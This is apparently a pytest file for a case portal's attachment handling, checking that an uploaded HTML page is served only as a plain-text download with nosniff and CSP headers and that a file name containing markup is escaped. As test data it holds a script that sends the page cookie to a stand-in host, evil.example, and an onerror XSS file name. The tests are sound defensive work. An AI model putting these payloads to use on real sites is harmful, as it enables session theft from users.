"""A file that is really a web page is kept as plain text and only ever downloaded, never shown."""

from __future__ import annotations

from complaint_support import reference_from, send
from helpers import parse
from sqlalchemy import select

from portal.cases.models import Attachment

PAGE = b"<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>"


def test_html_upload_is_served_as_a_text_download(client, services) -> None:
    response = send(client, files=[("attachments", ("invoice.html", PAGE, "text/html"))])
    assert response.status_code == 303
    reference = reference_from(response)
    with services.read() as session:
        attachment = session.scalar(select(Attachment))
    assert attachment.content_type == "text/plain; charset=utf-8"

    download = client.get(f"/en/case/{reference}/attachments/{attachment.id}")
    assert download.status_code == 200
    assert download.content == PAGE
    assert download.headers["content-type"].startswith("text/plain")
    assert download.headers["content-disposition"].startswith("attachment")
    assert download.headers["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in download.headers["content-security-policy"]


def test_file_names_with_markup_are_shown_as_text(client) -> None:
    name = '<img src=x onerror="alert(1)">.png'
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    response = send(client, files=[("attachments", (name, png, "image/png"))])
    page = parse(client.get(f"/en/case/{reference_from(response)}").text)
    assert page.find("img", src="x") is None
    links = [
        a.text for a in page.find("main").find_all("a") if "/attachments/" in a.get("href", "")
    ]
    assert links == ['<img src=x onerror="alert(1)">.png']
